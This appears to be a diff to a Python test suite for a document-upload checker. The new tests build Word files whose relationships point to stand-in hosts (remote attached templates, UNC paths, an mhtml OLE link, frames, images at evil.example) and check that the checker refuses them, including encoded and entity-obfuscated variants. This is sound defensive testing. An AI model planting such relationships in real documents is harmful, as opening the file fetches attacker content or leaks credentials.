@@ -10,13 +10,15 @@ from unicodedata import normalize
 import pytest
 import xlsxwriter
 from docx import Document
+from docx.opc.constants import RELATIONSHIP_TYPE
 from sqlalchemy import insert
 
 from models.submission import Submission
 from office.store import open_store, reading, writing
 from planning import kept_files
-from planning.file_content import UnusableFile
+from planning.file_content import LARGEST_RELATIONS, UnusableFile
 from planning.kept_files import (
+    INCOMING,
     LARGEST_FILE,
     SUBMITTED_FILES,
     CheckedFile,
@@ -29,6 +31,7 @@ from planning.kept_files import (
     sweep_orphans,
 )
 
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
 JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"\0" * 40
 PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 40
@@ -94,6 +97,90 @@ def given(tmp_path):
 def test_seven_kinds_are_taken_by_their_content(given, name, content, media_type):
     taken = given(name, content)
     assert (taken.name, taken.media_type, taken.size, len(taken.digest)) == (name, media_type, len(content), 64)
+
+
+def a_word_file_with(kind: str, target: str) -> bytes:
+    held, document = BytesIO(), Document()
+    document.part.relate_to(target, f"{RELATIONS}/{kind}", is_external=True)
+    document.save(held)
+    return held.getvalue()
+
+
+def a_linked_word_file() -> bytes:
+    held, document = BytesIO(), Document()
+    document.part.relate_to("https://example.vn/công-báo?số=1", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
+    document.part.relate_to("mailto:hoa@example.vn", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
+    document.save(held)
+    return held.getvalue()
+
+
+def a_linked_workbook() -> bytes:
+    held = BytesIO()
+    with xlsxwriter.Workbook(held) as book:
+        book.add_worksheet().write_url("A1", "https://example.vn/")
+    return held.getvalue()
+
+
+def test_links_a_person_follows_are_taken(given):
+    assert given("a.docx", a_linked_word_file()).media_type == kept_files.MEDIA_TYPES["docx"]
+    assert given("a.xlsx", a_linked_workbook()).media_type == kept_files.MEDIA_TYPES["xlsx"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "file:///C:\\Users\\Lan\\Mẫu%20của%20tôi.dotx"),
+        ("attachedTemplate", "C:\\Mau\\a.dotx"),
+        ("attachedTemplate", "file:///home/lan/mau.dotx"),
+        ("image", "../media/a.png"),
+        ("externalLinkPath", "https://example.vn/bang.xlsx"),  # another workbook; a person is asked first
+    ],
+)
+def test_what_lies_on_ones_own_machine_is_taken(given, kind, target):
+    assert given("a.docx", a_word_file_with(kind, target)).media_type == kept_files.MEDIA_TYPES["docx"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "https://evil.example/x.dotm"),
+        ("attachedTemplate", "HTTP://evil.example/x.dotm"),
+        ("attachedTemplate", "\\\\evil.example\\x.dotm"),
+        ("attachedTemplate", "//evil.example/x.dotm"),
+        ("attachedTemplate", "file:///\\\\evil.example\\x.dotm"),
+        ("attachedTemplate", "file://evil.example/x.dotm"),
+        ("attachedTemplate", "file:////evil.example/x.dotm"),
+        ("attachedTemplate", "file:///%5C%5Cevil.example%5Cx.dotm"),
+        ("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"),
+        ("frame", "https://evil.example/x.html"),
+        ("image", "https://evil.example/x.png"),
+    ],
+)
+def test_what_is_fetched_when_it_is_opened_is_refused(given, kind, target):
+    with pytest.raises(UnusableFile, match="từ nơi khác khi mở"):
+        given("a.docx", a_word_file_with(kind, target))
+
+
+@pytest.mark.parametrize(
+    ("relations", "says"),
+    [
+        ('<R Type="x/attachedTemplate" Target="&#104;ttps://evil.example/x.dotm"/>', "từ nơi khác"),
+        ('<R Type="x/attachedTemplate" Target="https://evil.example/x"/>'.encode("utf-16"), "từ nơi khác"),
+        ('<!DOCTYPE R [<!ENTITY a "https">]><R Type="x/image" Target="&a;://evil.example/"/>', "bị hỏng"),
+        ("<R", "bị hỏng"),
+        (f"<R>{' ' * LARGEST_RELATIONS}</R>", "lớn bất thường"),
+    ],
+    ids=["written another way", "other letters", "entities", "no XML", "too long"],
+)
+def test_relations_are_read_as_an_office_program_reads_them(given, relations, says):
+    with pytest.raises(UnusableFile, match=says):
+        given("a.docx", docx(**{"word/_rels/settings.xml.rels": relations}))
+
+
+def test_more_relations_than_a_document_has_are_not_read(given):
+    part = os.urandom(LARGEST_RELATIONS // 2 + 1)
+    with pytest.raises(UnusableFile, match="bị hỏng"):
+        given("a.docx", docx(**{"word/_rels/a.rels": part, "word/_rels/b.rels": part}))
 
 
 HEADS = docx()
@@ -200,12 +287,16 @@ def test_files_no_submission_names_are_swept_once_they_are_old(given, tmp_path):
     named, orphan, fresh = (keep(folder, tmp_path / "upload", checked) for _ in range(3))
     half = (folder / orphan.stored).parent / ".half-x"
     half.write_bytes(b"x")
+    arriving, left_behind = folder / INCOMING / "tmp1", folder / INCOMING / "tmp2"  # by a process that was killed
+    arriving.parent.mkdir()
+    for path in (arriving, left_behind):
+        path.write_bytes(b"x")
     notes = folder / "ab" / "ghi-chu.txt"
     notes.parent.mkdir(exist_ok=True)
     notes.write_text("của người quản trị", encoding="utf-8")
     now = datetime.now(UTC)
     old = (now - timedelta(days=2)).timestamp()
-    for path in (folder / named.stored, folder / orphan.stored, half, notes):
+    for path in (folder / named.stored, folder / orphan.stored, half, left_behind, notes):
         os.utime(path, (old, old))
     store = open_store(f"sqlite:///{tmp_path / 'dondoc.db'}")
     with writing(store) as connection:
@@ -215,7 +306,7 @@ def test_files_no_submission_names_are_swept_once_they_are_old(given, tmp_path):
         row = {"submission": 1, "name": "a", "media_type": "x", "size": 1, "digest": "0", "stored": named.stored}
         connection.execute(insert(SUBMITTED_FILES), row)
     with reading(store) as connection:
-        assert sweep_orphans(connection, folder, now - timedelta(days=1)) == 2
+        assert sweep_orphans(connection, folder, now - timedelta(days=1)) == 3
     store.dispose()
     left = {path for path in folder.rglob("*") if path.is_file()}
-    assert left == {folder / named.stored, folder / fresh.stored, notes}
+    assert left == {folder / named.stored, folder / fresh.stored, arriving, notes}
